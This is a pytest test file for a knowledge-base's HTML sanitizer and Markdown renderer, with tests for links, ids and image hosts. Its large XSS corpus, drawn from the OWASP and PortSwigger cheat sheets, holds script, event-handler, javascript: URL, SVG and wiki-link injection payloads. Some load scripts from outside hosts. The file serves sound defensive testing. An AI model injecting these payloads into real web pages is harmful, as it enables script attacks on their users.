"""Tests for kb.sanitize: an XSS corpus rendered through kb.markup, plus safe markup."""
from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from kb import markup, sanitize

# (readable id, vector). Written in the style of the OWASP XSS Filter Evasion
# Cheat Sheet and PortSwigger's XSS cheat sheet.
XSS_VECTORS: list[tuple[str, str]] = [
    # --- script tags ---
    ("script-basic", "<script>alert(1)</script>"),
    ("script-src", "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>"),
    ("script-src-data", '<script/src="data:text/javascript,alert(1)"></script>'),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-open", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    ("script-slash-attr", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    ("script-fromcharcode", "<script>alert(String.fromCharCode(88,83,83))</script>"),
    ("script-close-first", "</script><script>alert(1)</script>"),
    ("script-gt-in-attr", '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'),
    ("script-unclosed", "<script src=//xss.rocks/.j>"),
    ("script-inline-in-text", "text <script>alert(1)</script> inline"),
    ("script-in-div", "<div><script>alert(1)</div></script>"),
    ("script-after-doctype", "<!DOCTYPE html><script>alert(1)</script>"),
    ("script-after-xml-pi", '<?xml version="1.0"?><script>alert(1)</script>'),
    ("script-in-template", "<template><script>alert(1)</script></template>"),
    ("script-in-textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("noembed-breakout", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("xmp-img", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("title-img", "<title><img src=x onerror=alert(1)></title>"),
    # --- event handlers ---
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("img-onerror-entity", '<img src="x" onerror="&#97;lert(1)">'),
    ("img-slashes", '<img/src="x"/onerror=alert(1)>'),
    ("img-vtab-before-handler", "<img src=x\x0bonerror=alert(1)>"),
    ("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    ("img-quotes-script", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    ("img-unterminated", "<img src=x onerror=alert(1)//"),
    ("img-double-lt", "<<img src=x onerror=alert(1)>>"),
    ("img-in-paragraph-unclosed", "<p>x<img src=x onerror=alert(1)"),
    ("body-onload", "<body onload=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
    ("keygen-autofocus", "<keygen autofocus onfocus=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("video-source-onerror", '<video><source onerror="alert(1)">'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("a-onclick", '<a href="https://ok.se" onclick="alert(1)">x</a>'),
    ("a-onmouseover-no-href", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    ("p-onpointerenter", "<p onpointerenter=alert(1)>x</p>"),
    ("span-onmouseover", "<span onmouseover=alert(1)>x</span>"),
    ("td-onmouseover", "<table><tr><td onmouseover=alert(1)>x</td></tr></table>"),
    ("abbr-onclick", '<abbr title="x" onclick=alert(1)>SIP</abbr>'),
    ("h2-onclick", '<h2 id="x" onclick="alert(1)">x</h2>'),
    ("style-onload", "<style onload=alert(1)></style>"),
    ("iframe-onload", "<iframe onload=alert(1)>"),
    ("object-onerror", "<object data=x onerror=alert(1)>"),
    ("isindex-onerror", "<isindex type=image src=1 onerror=alert(1)>"),
    ("button-onclick", "<button onclick=alert(1)>x</button>"),
    ("custom-onblur", "<x contenteditable onblur=alert(1)>lose focus!</x>"),
    ("backtick-attr", "<img src=`x` onerror=`alert(1)`>"),
    # --- javascript:/vbscript:/data: in raw HTML ---
    ("a-js", '<a href="javascript:alert(1)">x</a>'),
    ("a-js-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-js-leading-space", '<a href="   javascript:alert(1)">x</a>'),
    ("a-js-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-js-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("a-js-cr-entity", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
    ("a-js-literal-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a-js-ctrl-char", '<a href="\x01javascript:alert(1)">x</a>'),
    ("a-js-null", '<a href="java\x00script:alert(1)">x</a>'),
    ("a-js-decimal-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    ("a-js-padded-entities", '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'),
    ("a-js-hex-entities", '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A alert(1)">x</a>'),
    ("a-js-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-js-named-entities", '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>'),
    ("a-js-tab-named-entity", '<a href="&Tab;javascript:alert(1)">x</a>'),
    ("a-js-colon-decimal", '<a href="javascript&#58;alert(1)">x</a>'),
    ("a-js-colon-padded", '<a href="javascript&#0058;alert(1)">x</a>'),
    ("a-js-colon-hex", '<a href="javascript&#x3a;alert(1)">x</a>'),
    ("a-js-one-entity", '<a href="javas&#99;ript:alert(1)">x</a>'),
    ("a-js-double-encoded", '<a href="&#x26;#x6A;avascript:alert(1)">x</a>'),
    ("a-js-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("a-js-single-quoted", "<a href='javascript:alert(1)'>x</a>"),
    ("a-js-with-title", '<a href="javascript:alert(1)" title="ok">x</a>'),
    ("a-js-slash-separator", '<a/href="javascript:alert(1)">x</a>'),
    ("a-js-percent-encoded", '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-vbscript-mixed-case", '<a href="VBScript:msgbox(1)">x</a>'),
    ("a-data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("a-data-upper", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'),
    ("a-nested-js", '<a href="https://ok.se"><a href="javascript:alert(1)">x</a></a>'),
    ("img-js", '<img src="javascript:alert(1)">'),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">'),
    ("img-js-ctrl-entity", '<img src="  &#14;  javascript:alert(1)">'),
    ("table-background-js", '<TABLE BACKGROUND="javascript:alert(1)">'),
    ("link-stylesheet-js", '<link rel=stylesheet href="javascript:alert(1)">'),
    # --- Markdown syntax ---
    ("md-link-js", "[x](javascript:alert(1))"),
    ("md-link-js-upper", "[x](JAVASCRIPT:alert(1))"),
    ("md-link-js-spaces", "[x]( javascript:alert(1) )"),
    ("md-link-js-angle", "[x](<javascript:alert(1)>)"),
    ("md-link-js-entity-colon", "[x](javascript&#58;alert(1))"),
    ("md-link-js-tab-entity", "[x](jav&#x09;ascript:alert(1))"),
    ("md-link-js-title", '[a](javascript:alert(1) "t")'),
    ("md-link-js-comment", "[x](javascript://%0aalert(1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-image-js", "![x](javascript:alert(1))"),
    ("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)"),
    ("md-image-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    ("md-autolink-js", "<javascript:alert(1)>"),
    ("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("md-reference-js", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("md-reference-image-data", "![x][r]\n\n[r]: data:text/html,alert(1)"),
    ("md-title-breakout", '[x](https://ok.se "title\\" onmouseover=\\"alert(1)")'),
    ("md-alt-breakout", '![x" onerror="alert(1)](https://ok.se/a.png)'),
    ("md-href-breakout", '[x](https://ok.se/"onmouseover="alert(1))'),
    ("md-img-in-link-text", "[<img src=x onerror=alert(1)>](https://ok.se)"),
    ("md-fence-close-code", "```\n</code><script>alert(1)</script>\n```"),
    ("md-fence-info-breakout", '```html" onmouseover="alert(1)\nx\n```'),
    ("md-code-span-script", "`<script>alert(1)</script>`"),
    ("md-indented-script", "    <script>alert(1)</script>"),
    ("md-table-img", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"),
    ("md-blockquote-script", "> <script>alert(1)</script>"),
    ("md-heading-script", "# <script>alert(1)</script>"),
    ("md-heading-quote", '## x" onmouseover="alert(1)'),
    ("md-list-link-js", "- [x](javascript:alert(1))"),
    ("md-emphasis-img", "*<img src=x onerror=alert(1)>*"),
    # --- SVG / MathML ---
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>'),
    ("svg-use-data", '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>'),
    ("svg-foreignobject-iframe", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("svg-style-import", "<svg><style>@import 'https://evil.example'</style></svg>"),
    ("svg-cdata-breakout", '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-href", '<math href="javascript:alert(1)">CLICKME</math>'),
    ("math-maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
    ("math-mi-data", '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>'),
    # --- iframe / object / embed / base / meta / form / style ---
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-slash-js", '<iframe/src="javascript:alert(1)">'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-split-by-p", "<</p>iframe src=javascript:alert(1)//<</p>>"),
    ("object-js", '<object data="javascript:alert(1)"></object>'),
    ("embed-data", '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
    ("applet", '<applet code="javascript:alert(1)"></applet>'),
    ("frameset-frame", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("form-formaction", "<form><button formaction=javascript:alert(1)>x</button></form>"),
    ("style-url-js", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"),
    ("style-attr-url", '<div style="background-image:url(javascript:alert(1))">x</div>'),
    ("style-attr-expression", '<p style="x:expression(alert(1))">x</p>'),
    ("style-attr-expression-div", "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
    ("style-attr-comment", "<img style=\"xss:expr/*XSS*/ession(alert('XSS'))\">"),
    # --- attribute breaking ---
    ("title-breakout", "<a href=\"https://ok.se\" title='\"><script>alert(1)</script>'>x</a>"),
    ("alt-breakout", "<img src=\"https://ok.se/x.png\" alt='\"onerror=\"alert(1)'>"),
    ("abbr-title-entities", '<abbr title="a&quot; onmouseover=&quot;alert(1)">x</abbr>'),
    ("unquoted-title-handler", '<a href="/x" title=a onmouseover=alert(1)>x</a>'),
    # --- wiki links ---
    ("wiki-quote-handler", '[[" onmouseover="alert(1)]]'),
    ("wiki-text-quote-handler", '[[x|" onmouseover="alert(1)]]'),
    ("wiki-script", "[[<script>alert(1)</script>]]"),
    ("wiki-js", "[[javascript:alert(1)]]"),
    ("wiki-anchor-quote", '[[x#" onclick="alert(1)]]'),
    ("wiki-img", "[[<img src=x onerror=alert(1)>]]"),
    ("wiki-svg-target", "[['><svg onload=alert(1)>|x]]"),
    ("wiki-img-text", "[[x|<img src=x onerror=alert(1)>]]"),
    ("wiki-empty-quotes", '[[""]]'),
    ("wiki-data", "[[data:text/html,alert(1)]]"),
    # --- comments and CDATA ---
    ("comment-script", "<!--<script>alert(1)</script>-->"),
    ("comment-bang-close", "<!-- --!><script>alert(1)</script> -->"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("comment-short-close", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-in-p", "<p><!--</p><img src=x onerror=alert(1)>--></p>"),
    ("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "style", "base", "meta", "form"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster", "srcset"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f-\xa0\s]+")


class _StartTags(HTMLParser):
    """Collects every start tag with its (decoded) attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_safe(html: str) -> None:
    """Fail if the HTML contains a dangerous element, attribute or URL."""
    parser = _StartTags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in FORBIDDEN_TAGS, f"<{tag}> in {html!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"{name} on <{tag}> in {html!r}"
            assert name != "style", f"style on <{tag}> in {html!r}"
            if name in URL_ATTRS and value:
                normalized = _IGNORED_IN_URL.sub("", value).lower()
                assert not normalized.startswith(BAD_SCHEMES), f"{name}={value!r} in {html!r}"


def test_corpus_is_large_and_ids_unique():
    """Does the corpus hold at least 100 vectors with unique ids?"""
    ids = [name for name, _ in XSS_VECTORS]
    assert len(ids) >= 100
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("vector", [pytest.param(v, id=name) for name, v in XSS_VECTORS])
def test_render_neutralises_xss(vector: str):
    """Is every vector harmless after Markdown rendering and sanitising?"""
    assert_safe(markup.render(vector).html)
    assert_safe(markup.render(vector, page_exists=lambda s: False).html)


@pytest.mark.parametrize("vector", [pytest.param(v, id=name) for name, v in XSS_VECTORS])
def test_clean_neutralises_xss(vector: str):
    """Is every vector harmless when passed straight to sanitize.clean?"""
    assert_safe(sanitize.clean(vector))


def test_script_is_escaped_not_executed():
    """Is a script tag shown as inert escaped text?"""
    html = sanitize.clean("<script>alert(1)</script>")
    assert "<script" not in html
    assert "&lt;script&gt;" in html


def test_comments_are_stripped():
    """Are HTML comments removed?"""
    assert sanitize.clean("<p>a<!-- hemligt -->b</p>") == "<p>ab</p>"


def test_table_survives():
    """Does a Markdown table survive sanitising?"""
    html = markup.render("| a | b |\n|---|---|\n| 1 | 2 |").html
    for tag in ("<table>", "<thead>", "<tbody>", "<th>a</th>", "<td>2</td>"):
        assert tag in html


def test_https_link_survives_with_rel():
    """Is an https link kept and marked nofollow noopener?"""
    html = markup.render("[1177](https://www.1177.se/)").html
    assert 'href="https://www.1177.se/"' in html
    assert 'rel="nofollow noopener"' in html


def test_internal_link_has_no_rel():
    """Are relative links left without rel?"""
    html = sanitize.clean('<a href="/sida/sip">SIP</a>')
    assert html == '<a href="/sida/sip">SIP</a>'


def test_user_rel_is_dropped():
    """Is a rel attribute written by the user removed (not allowlisted)?"""
    assert "opener" not in sanitize.clean('<a href="/x" rel="opener">x</a>')


def test_https_image_from_an_allowed_host_survives():
    """Is an image with an https src on an allowed image host kept together with alt and title?"""
    html = markup.render('![Karta](https://example.org/karta.png "Karta")', image_hosts=["example.org"]).html
    assert 'src="https://example.org/karta.png"' in html
    assert 'alt="Karta"' in html
    assert 'title="Karta"' in html


def test_abbr_survives():
    """Is raw <abbr title> kept?"""
    html = markup.render('<abbr title="Samordnad individuell plan">SIP</abbr>').html
    assert '<abbr title="Samordnad individuell plan">SIP</abbr>' in html


def test_mailto_and_tel_links_kept():
    """Are mailto: and tel: links kept?"""
    html = markup.render("[Mejla](mailto:samla@example.se) eller [ring](tel:+46101234567)").html
    assert 'href="mailto:samla@example.se"' in html
    assert 'href="tel:+46101234567"' in html


def test_disallowed_attributes_dropped_but_element_kept():
    """Are unknown attributes dropped from allowed elements?"""
    assert sanitize.clean('<p class="toc-title" data-x="1" onclick="a()">t</p>') == '<p class="toc-title">t</p>'


def test_empty_input():
    """Does cleaning an empty string give an empty string?"""
    assert sanitize.clean("") == ""


# --- user markup kept apart from kb's page (see also test_user_content) ---------------------------

def test_only_the_renderers_classes_survive():
    """Is every class dropped except those kb's renderer writes where it writes them (wiki links, the
    table of contents, a code block's language), so no text can dress up as kb's badges?"""
    html = sanitize.clean(
        '<span class="badge badge-ok">Fastställd</span><div class="notice">x</div>'
        '<a class="wikilink missing badge" href="/x">a</a><nav class="toc"><p class="toc-title">I</p></nav>'
        '<p class="wikilink">p</p><code class="language-python language-x;y">c</code>')
    assert html == ('<span>Fastställd</span><div>x</div><a class="wikilink missing" href="/x">a</a>'
                    '<nav class="toc"><p class="toc-title">I</p></nav><p>p</p><code class="language-python">c</code>')


def test_ids_get_the_user_content_prefix_once():
    """Does every id get the user-content- prefix, once (HTML cleaned again keeps its ids), with empty ids dropped?"""
    html = sanitize.clean('<h2 id="innehall">a</h2><sup id="fnref1">1</sup><li id="user-content-fn1">f</li><h3 id=" ">b</h3>')
    assert html == ('<h2 id="user-content-innehall">a</h2><sup id="user-content-fnref1">1</sup>'
                    '<li id="user-content-fn1">f</li><h3>b</h3>')
    assert sanitize.clean(html) == html


def test_in_page_links_follow_the_ids_they_point_to():
    """Does a link to an id in the same text ("#avsnitt", even before the heading, or written with %-escapes)
    follow it to "#user-content-avsnitt", while links to other ids, other pages and the top stay?"""
    html = sanitize.clean('<a href="#avsnitt">1</a><a href="#%C3%B6ver">2</a><a href="#main">3</a>'
                          '<a href="/sida/x#avsnitt">4</a><a href="#">5</a><h2 id="avsnitt">A</h2><h2 id="över">Ö</h2>')
    assert html.startswith('<a href="#user-content-avsnitt">1</a><a href="#user-content-%C3%B6ver">2</a>'
                           '<a href="#main">3</a><a href="/sida/x#avsnitt">4</a><a href="#">5</a>')


@pytest.mark.parametrize("hosts", [(), ("bilder.lerum.se",)])
def test_images_load_only_from_kb_and_the_allowed_hosts(hosts):
    """Are images from kb itself always kept, those over https from an allowed host kept only while it is
    allowed, and all others (plain http, another host or port, a user name, tricks a browser reads as
    another host) never loaded?"""
    kept = ["/sida/x/bilagor/karta.png", "bilder/karta.png", "?v=1"]
    allowed = ["https://bilder.lerum.se/karta.png", "HTTPS://Bilder.Lerum.se/k.png", "//bilder.lerum.se/k.png"]
    never = ["http://bilder.lerum.se/k.png", "https://tracker.example/p.png", "https://bilder.lerum.se:8443/k.png",
             "https://x@bilder.lerum.se/k.png", "https://bilder.lerum.se.tracker.example/p.png",
             "\\\\tracker.example/p.png", "/\\tracker.example/p.png", " //tracker.example/p.png",
             "https:tracker.example/p.png", "//tracker.example/p.png"]
    for src in kept + allowed + never:
        html = sanitize.clean(f'<img src="{src}" alt="Bild">', image_hosts=hosts)
        shown = html.startswith("<img")
        assert shown == (src in kept or (bool(hosts) and src in allowed)), (src, html)
        assert shown or "Bild" in html, (src, html)


def test_an_image_that_may_not_load_leaves_its_alt_text():
    """Does an image that may not load become a link to it named by its alt text (plain text inside a
    link, where a link cannot go), and vanish without alt text (a tracking pixel has none)?"""
    pixel = "https://tracker.example/p.png"
    assert sanitize.clean(f'<p><img src="{pixel}" alt="Karta &amp; väg"></p>') == (
        f'<p><a href="{pixel}" rel="nofollow noopener">Karta &amp; väg</a></p>')
    assert sanitize.clean(f'<a href="/sida/x"><img src="{pixel}" alt="Karta"></a>') == '<a href="/sida/x">Karta</a>'
    assert sanitize.clean(f'<p>a<img src="{pixel}">b</p>') == "<p>ab</p>"
